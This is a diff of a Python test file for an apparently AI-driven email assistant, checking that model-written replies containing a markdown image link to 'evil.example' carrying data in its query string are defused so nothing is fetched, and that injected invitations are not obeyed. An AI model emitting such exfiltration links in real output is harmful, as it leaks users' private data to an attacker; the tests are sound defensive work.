@@ -158,14 +158,27 @@ async def test_a_card_fetches_nothing_before_the_person_agrees():
 
 
 async def test_an_answer_in_a_models_words_fetches_nothing():
-    searches = [("gmail_search_messages", {"query": query}) for query in ("a", "b")]
+    steps = (
+        ("gmail_search_messages", {"query": "a", "limit": 1}),
+        ("gmail_get_thread", {"thread_id": "{1.mails.0.thread_id}"}),
+    )
     told = Text(("All fine ![]", "(https://evil.example/?numbers=7) [a", "](b)"))
-    async with obeying(*searches, synthesize=[told]) as (world, _):
+    async with obeying(*steps, synthesize=[told]) as (world, _):
         said = await world.ask(READ)
 
         assert said == "All fine ![] (https: //evil.example/?numbers=7) [a] (b)"
         events = [logged.event.get("delta", "") for logged in await world.events()]
         assert "](" not in "".join(events)
+
+
+async def test_lists_are_told_without_a_model():
+    searches = [("gmail_search_messages", {"query": query}) for query in ("a", "b")]
+    told = Text(("All fine ![]", "(https://evil.example/?numbers=7)"))
+    async with obeying(*searches, synthesize=[told]) as (world, _):
+        said = await world.ask(READ)
+
+        assert said.count("I found 2 emails") == 2
+        assert "All fine" not in said
 
 
 async def test_an_invitation_that_gives_orders_is_shown_and_not_obeyed(world):
